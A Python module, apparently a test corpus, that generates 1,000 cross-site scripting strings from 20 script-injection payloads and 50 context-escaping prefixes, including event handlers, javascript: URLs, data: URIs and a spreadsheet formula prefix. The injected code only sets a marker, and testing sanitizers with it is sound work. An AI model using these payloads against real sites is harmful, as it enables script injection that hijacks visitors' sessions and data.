"""What somebody may write who wants the page to run it: 1,000 texts for every place that a text can stand in."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

RUN = "window.pwned=1"
TEXTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'></iframe>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<style>@import 'javascript:{RUN}'</style>",
    f"<link rel=stylesheet href='data:text/css,*{{}}' onload={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)
ENDINGS = (
    "{}", '"{}', "'{}", "\">{}", "'>{}", "</title>{}", "</script>{}", "</textarea>{}", "</pre>{}", "-->{}",
    "]]>{}", "{{{{ {} }}}}", "{{% {} %}}", "\x00{}", "\u202e{}\u202c", "\x1b]8;;x\x07{}", "&lt;{}", "%3C{}",
    "\ndata: {}\n\n", "\r\n\r\n{}", "`${{{}}}`", "\\{}", "<!--{}", "<![CDATA[{}", "x\" autofocus onfocus=\"{}",
    "x' onerror='{}", "</style>{}", "</svg>{}", "<p>{}", "\u2028{}", "\ud83d\ude00{}", "a b{}", "<x {}", "&#60;{}",
    "\ufeff{}", "\u00a0{}", "\t{}", "0{}", "=cmd|{}", "@{}", "+{}", "-{}", "{}{{", "[{}](x)", "*{}*", "\u200b{}",
    "</xmp>{}", "</noscript>{}", "</iframe>{}", "</template>{}",
)  # fmt: skip


def texts() -> Iterator[str]:
    """Every text behind every ending: 20 times 50."""
    for ending, text in itertools.product(ENDINGS, TEXTS):
        yield (
            ending.replace("{{", "\x01")
            .replace("}}", "\x02")
            .replace("{}", text)
            .replace("\x01", "{")
            .replace("\x02", "}")
        )
